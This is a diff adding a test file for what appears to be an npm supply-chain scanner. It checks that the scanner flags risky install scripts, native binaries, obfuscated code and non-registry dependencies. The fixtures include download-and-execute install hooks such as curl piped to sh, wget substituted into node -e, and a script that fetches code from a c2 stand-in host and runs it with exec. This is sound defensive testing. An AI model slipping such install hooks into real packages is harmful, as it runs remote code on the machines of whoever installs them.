@@ -1,0 +1,183 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildPackage, type BuiltPackage } from '@spm/testkit';
+import { withExtracted } from '../../src/scan/extract.js';
+import { parseScript } from '../../src/scan/shell.js';
+import { analyseJs } from '../../src/scan/js-analysis.js';
+import { manifestMismatch, nonRegistrySpec, supplyChainSignals } from '../../src/scan/signals.js';
+import type { Finding } from '../../src/scan/types.js';
+
+let dir: string;
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'spm-signals-test-'));
+});
+afterAll(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+async function signalsOf(pkg: BuiltPackage, opts: { registryDoc?: Record<string, unknown> | null; declaredLicence?: string | null } = {}): Promise<Finding[]> {
+  const file = join(dir, `${pkg.name}-${pkg.version}.tgz`);
+  await writeFile(file, pkg.tarball);
+  return withExtracted(file, { maxEntries: 1000, maxUnpackedBytes: 50 * 1024 * 1024 }, async (x) =>
+    supplyChainSignals({
+      root: x.root,
+      manifest: pkg.manifest,
+      registryDoc: opts.registryDoc === undefined ? pkg.manifest : opts.registryDoc,
+      declaredLicence: opts.declaredLicence ?? 'MIT',
+      skippedLinks: x.skippedLinks,
+    }),
+  );
+}
+
+const ids = (fs: Finding[]) => fs.map((f) => f.id);
+
+const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
+function peFile(): Buffer {
+  const b = Buffer.alloc(256);
+  b.write('MZ', 0, 'latin1');
+  b.writeUInt32LE(0x80, 0x3c);
+  b.write('PE\0\0', 0x80, 'latin1');
+  return b;
+}
+
+function obfuscatedSource(): string {
+  const strings = ['\\x68\\x74\\x74\\x70\\x73', '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73', '\\x65\\x78\\x65\\x63', '\\x74\\x6f\\x53\\x74\\x72\\x69\\x6e\\x67'];
+  const table = Array.from({ length: 30 }, (_, i) => `'${strings[i % strings.length]}'`).join(',');
+  return (
+    `var _0x4f2a=[${table}];` +
+    `(function(_0x1b3c,_0x2d4e){var _0x3f5a=function(_0x4a6b){while(--_0x4a6b){_0x1b3c['push'](_0x1b3c['shift']());}};_0x3f5a(++_0x2d4e);}(_0x4f2a,0x1a3));` +
+    `var _0x5b7c=function(_0x6c8d,_0x7d9e){_0x6c8d=_0x6c8d-0x0;var _0x8eaf=_0x4f2a[_0x6c8d];return _0x8eaf;};` +
+    `module['\\x65\\x78\\x70\\x6f\\x72\\x74\\x73']=_0x5b7c;\n`
+  );
+}
+
+describe('supply-chain signals on built tarballs', () => {
+  it('finds a postinstall that downloads code and pipes it to a shell', async () => {
+    const pkg = buildPackage({ name: 'dl-shell', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example.test/x.sh | sh' } } });
+    const f = await signalsOf(pkg);
+    expect(ids(f)).toEqual(expect.arrayContaining(['install-script', 'install-script-download-exec']));
+    const dl = f.find((x) => x.id === 'install-script-download-exec')!;
+    expect(dl.severity).toBe('critical');
+    expect(dl.evidence).toContain('curl -fsSL https://payload.example.test/x.sh | sh');
+  });
+
+  it('sees a download substituted into an interpreter', async () => {
+    const pkg = buildPackage({ name: 'dl-subst', version: '1.0.0', manifest: { scripts: { preinstall: 'node -e "$(wget -qO- http://x.example.test/p)"' } } });
+    expect(ids(await signalsOf(pkg))).toContain('install-script-download-exec');
+  });
+
+  it('follows the file a postinstall runs, and its local requires, and sees network plus exec', async () => {
+    const pkg = buildPackage({
+      name: 'dl-node',
+      version: '1.0.0',
+      manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
+      files: {
+        'scripts/setup.js': "const get = require('./lib/get');\nconst { exec } = require('node:child_process');\nget((code) => exec(code));\n",
+        'scripts/lib/get.js': "const https = require('https');\nmodule.exports = (cb) => https.get('https://c2.example.test/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cb(d)); });\n",
+      },
+    });
+    const f = await signalsOf(pkg);
+    const critical = f.filter((x) => x.id === 'install-code-download-exec' || x.id === 'install-code-network' || x.id === 'install-code-shell');
+    expect(critical.map((x) => x.file)).toEqual(expect.arrayContaining(['scripts/setup.js', 'scripts/lib/get.js']));
+    expect(f.find((x) => x.id === 'install-code-network')!.evidence).toMatch(/line 1: require\('https'\)/);
+  });
+
+  it('flags native binaries by their magic bytes', async () => {
+    const pkg = buildPackage({
+      name: 'native',
+      version: '1.0.0',
+      files: { 'prebuilds/linux-x64/addon.node': ELF, 'bin/helper.exe': peFile(), 'bin/data.bin': Buffer.from('plain data, not code') },
+    });
+    const f = await signalsOf(pkg);
+    const bins = f.filter((x) => x.id === 'native-binary');
+    expect(bins.map((x) => x.file).sort()).toEqual(['bin/helper.exe', 'prebuilds/linux-x64/addon.node']);
+    expect(bins.find((x) => x.file === 'bin/helper.exe')!.evidence).toMatch(/PE \(Windows\)/);
+    expect(bins.find((x) => x.file?.endsWith('.node'))!.evidence).toMatch(/ELF/);
+  });
+
+  it('flags obfuscated code', async () => {
+    const pkg = buildPackage({ name: 'obf', version: '1.0.0', files: { 'index.js': obfuscatedSource() } });
+    const f = await signalsOf(pkg);
+    const o = f.find((x) => x.id === 'obfuscated-code');
+    expect(o).toBeDefined();
+    expect(o!.file).toBe('index.js');
+    expect(o!.explanation).toMatch(/_0x… identifiers/);
+    expect(o!.evidence!.length).toBeLessThanOrEqual(200);
+  });
+
+  it('finds nothing in a clean package', async () => {
+    const pkg = buildPackage({
+      name: 'clean',
+      version: '1.2.3',
+      manifest: { dependencies: { 'left-pad': '^1.3.0' }, scripts: { test: 'node test.js', build: 'tsc' } },
+      files: {
+        'lib/util.js': "'use strict';\nconst path = require('path');\nexports.join = (...p) => path.join(...p);\nexports.re = /a+/.exec('aaa');\n",
+        'README.md': '# clean\n\nNothing to see.\n',
+        'lib/data.json': JSON.stringify({ words: 'the quick brown fox jumps over the lazy dog '.repeat(20) }),
+      },
+    });
+    expect(await signalsOf(pkg)).toEqual([]);
+  });
+
+  it('treats binding.gyp as an install script (node-gyp rebuild) without a manifest mismatch', async () => {
+    const pkg = buildPackage({ name: 'gyp', version: '1.0.0', files: { 'binding.gyp': '{"targets":[]}' } });
+    const doc = { ...pkg.manifest, scripts: { install: 'node-gyp rebuild' }, gypfile: true };
+    const f = await signalsOf(pkg, { registryDoc: doc });
+    expect(ids(f)).toEqual(['install-script']);
+    expect(f[0]!.title).toMatch(/node-gyp/);
+  });
+
+  it('reports git/http/file dependencies, a manifest that disagrees with the registry, and a different licence', async () => {
+    const pkg = buildPackage({
+      name: 'confused',
+      version: '2.0.0',
+      manifest: { license: 'GPL-3.0-only', dependencies: { a: 'github:someone/a', b: 'http://files.example.test/b.tgz', c: 'file:../c', d: '^1.0.0' } },
+    });
+    const registryDoc = { name: 'confused', version: '2.0.0', license: 'MIT', dependencies: { d: '^1.0.0' } };
+    const f = await signalsOf(pkg, { registryDoc, declaredLicence: 'MIT' });
+    expect(ids(f).sort()).toEqual(['file-dependency', 'git-dependency', 'licence-mismatch', 'manifest-mismatch', 'url-dependency']);
+    expect(f.find((x) => x.id === 'url-dependency')!.severity).toBe('high');
+    expect(f.find((x) => x.id === 'manifest-mismatch')!.title).toMatch(/dependencies/);
+  });
+
+  it('records when the registry metadata was not available', async () => {
+    const pkg = buildPackage({ name: 'offline', version: '1.0.0' });
+    const f = await signalsOf(pkg, { registryDoc: null });
+    expect(f).toEqual([expect.objectContaining({ id: 'registry-metadata-unavailable', severity: 'info' })]);
+  });
+});
+
+describe('install script tokenising', () => {
+  const cmds = (s: string) => parseScript(s).map((p) => p.commands.map((c) => c.join(' ')));
+  it('splits pipelines and commands, dropping assignments, wrappers and redirections', () => {
+    expect(cmds('FOO=1 sudo curl -s "https://x.example.test/a b" | bash -s -- arg && echo done > /dev/null 2>&1')).toEqual([
+      ['curl -s https://x.example.test/a b', 'bash -s -- arg'],
+      ['echo done'],
+    ]);
+  });
+  it('sees inside command substitutions', () => {
+    expect(cmds('node -e "$(wget -qO- http://x.example.test/p)"')).toEqual([['node -e $(wget -qO- http://x.example.test/p)'], ['wget -qO- http://x.example.test/p']]);
+  });
+  it('classifies dependency specs', () => {
+    expect(nonRegistrySpec('^1.2.3')).toBeNull();
+    expect(nonRegistrySpec('npm:other@^1')).toBeNull();
+    expect(nonRegistrySpec('user/repo#main')?.kind).toBe('git');
+    expect(nonRegistrySpec('git+ssh://git@host.example.test/r.git')?.kind).toBe('git');
+    expect(nonRegistrySpec('link:../x')?.kind).toBe('file');
+  });
+  it('compares manifests ignoring key order and empty objects', () => {
+    expect(manifestMismatch({ name: 'a', version: '1.0.0', scripts: {}, dependencies: { x: '1', y: '2' } }, { name: 'a', version: '1.0.0', dependencies: { y: '2', x: '1' } }, false)).toEqual([]);
+  });
+});
+
+describe('JavaScript capability analysis', () => {
+  it('sees eval, new Function, fetch and child_process through the AST, not text', () => {
+    const a = analyseJs("// require('child_process') in a comment is not a call\nconst s = \"eval('x')\";\nfetch(u);\nnew Function('return 1')();\nimport('https');\n");
+    expect(a.capabilities.map((c) => `${c.kind}:${c.what}`)).toEqual(['network:fetch', 'eval:new Function', 'network:https']);
+  });
+  it('does not mistake RegExp#exec for running a command', () => {
+    expect(analyseJs('/a/.exec("a");').capabilities).toEqual([]);
+  });
+});
